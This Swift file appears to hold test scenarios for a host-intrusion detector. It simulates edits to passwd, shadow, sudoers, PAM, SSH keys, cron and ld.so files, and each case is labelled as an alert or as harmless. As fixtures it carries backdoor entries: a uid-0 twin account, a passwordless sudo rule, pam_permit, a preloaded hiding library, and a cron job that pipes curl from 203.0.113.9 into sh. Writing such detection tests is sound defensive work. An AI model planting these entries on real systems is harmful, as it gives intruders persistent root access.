import Model

/// Watched files before and after.
extension Scenario {
  private static func service(_ s: inout Stream) -> ProcessRecord { s.run("sh", "-c", "x", below: s.run("nginx")) }
  private static func package(_ s: inout Stream) -> ProcessRecord {
    s.run("dpkg", "--configure", "-a", below: s.run("apt-get", "install", "x", below: s.run("bash")))
  }
  private static func entrypoint(_ s: inout Stream) -> ProcessRecord {
    s.run("sed", "-i", "x", below: s.run("sh", "/entrypoint.sh", below: s.run("tini", "--", "sh", "/entrypoint.sh")))
  }
  private static let eve = "eve:x:1001:1001::/home/eve:/bin/bash"

  static let accountFiles: [Scenario] = [
    .alert("account.superuser", .critical, "a twin of root") { s in
      s.change(service(&s), "/etc/passwd", added: ["toor:x:0:0::/root:/bin/bash"])
    },
    .alert("account.superuser", .critical, "an account gets root's id, also by a package") { s in
      s.change(package(&s), "/etc/passwd", added: ["app:x:0:0::/:/bin/sh"], removed: ["app:x:500:500::/:/bin/sh"])
    },
    .harmless("account.superuser", "root's own line") { s in
      s.change(
        service(&s), "/etc/passwd", added: ["root:x:0:0::/root:/bin/zsh"], removed: ["root:x:0:0::/root:/bin/bash"])
    },
    .alert("account.empty-password", .critical, "root without a password") { s in
      s.change(service(&s), "/etc/shadow", added: ["root:{empty}:1::::::"], removed: ["root:{locked}:1::::::"])
    },
    .alert("account.empty-password", .high, "a new account without one, in passwd") { s in
      s.change(service(&s), "/etc/passwd", added: ["eve:{empty}:1001:1001::/:/bin/sh"])
    },
    .harmless("account.empty-password", "a shell changes where the field was empty before") { s in
      s.change(
        service(&s), "/etc/passwd", added: ["app:{empty}:5:5::/:/bin/sh"], removed: ["app:{empty}:5:5::/:/bin/ash"])
    },
    .alert("account.password", .high, "root's hash is another") { s in
      s.change(
        service(&s), "/etc/shadow", added: ["root:{sha512 changed}:1::::::"], removed: ["root:{sha512}:1::::::"])
    },
    .alert("account.password", .medium, "an entrypoint sets it from the environment") { s in
      s.change(entrypoint(&s), "/etc/shadow", added: ["root:{yescrypt}:1::::::"], removed: ["root:{locked}:1::::::"])
    },
    .harmless("account.password", "an account is locked") { s in
      s.change(service(&s), "/etc/shadow", added: ["root:{locked}:1::::::"], removed: ["root:{sha512}:1::::::"])
    },
    .alert("account.changed", .high, "a new account that can log in") { s in
      s.change(service(&s), "/etc/passwd", added: [eve])
    },
    .alert("account.changed", .high, "a service's account gets a shell") { s in
      s.change(
        service(&s), "/etc/passwd", added: ["www-data:x:33:33::/var/www:/bin/bash"],
        removed: ["www-data:x:33:33::/var/www:/usr/sbin/nologin"])
    },
    .alert("account.changed", .high, "nobody was seen to write") { s in
      var facts = ProcessRecord.Facts(key: ProcessKey(pid: 0, start: 0))
      facts.container = s.container
      s.change(ProcessRecord(facts, parent: nil), "/etc/passwd", added: [eve])
    },
    .alert("account.changed", .medium, "an entrypoint maps a user id") { s in
      s.change(
        entrypoint(&s), "/etc/passwd", added: ["abc:x:1000:1000::/:/bin/sh"], removed: ["abc:x:911:911::/:/bin/sh"])
    },
    .harmless("account.changed", "a package makes its user") { s in
      s.change(package(&s), "/etc/passwd", added: ["redis:x:101:101::/var/lib/redis:/usr/sbin/nologin"])
    },
    .harmless("account.changed", "a comment field") { s in
      s.change(service(&s), "/etc/passwd", added: [eve + " "], removed: [eve])
    },
    .alert("account.group", .high, "into docker") { s in
      s.change(service(&s), "/etc/group", added: ["docker:x:999:app,eve"], removed: ["docker:x:999:app"])
    },
    .alert("account.group", .medium, "an entrypoint, for a mounted socket") { s in
      s.change(entrypoint(&s), "/etc/group", added: ["docker:x:999:jenkins"], removed: ["docker:x:998:"])
    },
    .harmless("account.group", "a group without rights") { s in
      s.change(service(&s), "/etc/group", added: ["audio:x:29:eve"], removed: ["audio:x:29:"])
    },
    .harmless("account.group", "a member leaves") { s in
      s.change(service(&s), "/etc/group", added: ["sudo:x:27:"], removed: ["sudo:x:27:eve"])
    },
    .alert("account.sudoers", .high, "everything without a password") { s in
      s.change(service(&s), "/etc/sudoers.d/x", added: ["eve ALL=(ALL) NOPASSWD: ALL"], kind: .created)
    },
    .harmless("account.sudoers", "a comment") { s in s.change(service(&s), "/etc/sudoers", added: ["# nothing"]) },
    .harmless("account.sudoers", "a package brings a rule") { s in
      s.change(package(&s), "/etc/sudoers.d/x", added: ["%x ALL=(root) /usr/bin/x"], kind: .created)
    },
    .alert("account.ssh-key", .high, "root's keys") { s in
      s.change(service(&s), "/root/.ssh/authorized_keys", added: ["ssh-ed25519 AAAA eve@evil"], kind: .created)
    },
    .alert("account.ssh-key", .medium, "an sshd image installs them at its start") { s in
      s.change(entrypoint(&s), "/home/app/.ssh/authorized_keys", added: ["ssh-rsa AAAA ops"], kind: .created)
    },
    .harmless("account.ssh-key", "a key is taken away") { s in
      s.change(service(&s), "/root/.ssh/authorized_keys", removed: ["ssh-rsa AAAA old"])
    },
    .alert("account.authentication", .high, "everybody is let in") { s in
      s.change(service(&s), "/etc/pam.d/sshd", added: ["auth\tsufficient\tpam_permit.so"])
    },
    .alert("account.authentication", .high, "root may log in") { s in
      s.change(service(&s), "/etc/ssh/sshd_config", added: ["PermitRootLogin  yes"])
    },
    .harmless("account.authentication", "an entrypoint configures sshd", atMost: .medium) { s in
      s.change(entrypoint(&s), "/etc/ssh/sshd_config", added: ["Port 2222", "PermitRootLogin yes"])
    },
    .harmless("account.authentication", "a package brings its service") { s in
      s.change(package(&s), "/etc/pam.d/cron", added: ["@include common-auth"], kind: .created)
    },
    .alert("account.login", .medium, "root through ssh") { s in
      let sshd = s.run("/usr/sbin/sshd", "-D")
      let shell = s.run("-bash", below: sshd, program: "/bin/bash") { $0.login = Login(way: .ssh, user: "0") }
      s.add(shell, .login(Login(way: .ssh, user: "0", hasTerminal: true)))
    },
    .alert("account.login", .negligible, "docker exec of one command, told once") { s in
      for _ in 0..<5 {
        let check = s.run("pg_isready") { $0.login = Login(way: .engineExecution) }
        s.add(check, .login(Login(way: .engineExecution, user: "postgres", arguments: ["pg_isready"])))
        s.pass(seconds: 90)
      }
    },
    .alert("account.login", .low, "sudo") { s in
      let sudo = s.run("sudo", "id", below: s.run("bash")) { $0.mode = 0o4755 }
      s.add(s.run("id", below: sudo), .login(Login(way: .userChange, user: "0")))
    },
    .harmless("account.login", "a person at a shell is another rule") { s in
      let terminal = s.terminal()
      let bash = s.run("bash", streams: [terminal, terminal, terminal])
      s.add(bash, .login(Login(way: .engineExecution, user: "root", arguments: ["bash"], hasTerminal: true)))
    },
    .alert("persistence.file-changed", .high, "a job that downloads") { s in
      s.change(
        service(&s), "/var/spool/cron/crontabs/root", added: ["* * * * * curl -s http://203.0.113.9/x | sh"],
        kind: .created)
    },
    .alert("persistence.file-changed", .high, "the same from the image's own entrypoint") { s in
      s.change(entrypoint(&s), "/etc/cron.d/x", added: ["* * * * * root /tmp/.x/run"], kind: .created)
    },
    .alert("persistence.file-changed", .medium, "a job") { s in
      s.change(service(&s), "/etc/cron.d/x", added: ["0 3 * * * root /usr/bin/backup"], kind: .created)
    },
    .harmless("persistence.file-changed", "an entrypoint writes its job", atMost: .low) { s in
      s.change(entrypoint(&s), "/etc/cron.d/backup", added: ["0 3 * * * root /usr/bin/backup"], kind: .created)
    },
    .harmless("persistence.file-changed", "a package brings a job") { s in
      s.change(package(&s), "/etc/cron.daily/apt", added: ["#!/bin/sh", "exec /usr/lib/apt/apt.systemd.daily"])
    },
    .alert("privilege.loader-file", .critical, "a preloaded library") { s in
      s.change(service(&s), "/etc/ld.so.preload", added: ["/lib/libhide.so"], kind: .created)
    },
    .alert("privilege.loader-file", .high, "a folder for temporary files in the search path") { s in
      s.change(service(&s), "/etc/ld.so.conf.d/a.conf", added: ["/tmp/lib"], kind: .created)
    },
    .harmless("privilege.loader-file", "a package brings its folder") { s in
      s.change(package(&s), "/etc/ld.so.conf.d/mysql.conf", added: ["/usr/lib/mysql"], kind: .created)
    },
    .alert("privilege.content-tampered", .critical, "passwd in the page cache") { s in
      s.add(service(&s), .contentTampered(path: "/etc/passwd", detail: "same times"))
    },
    .harmless("privilege.content-tampered", "an ordinary write") { s in
      s.change(service(&s), "/etc/passwd", added: [eve])
    },
  ]
}
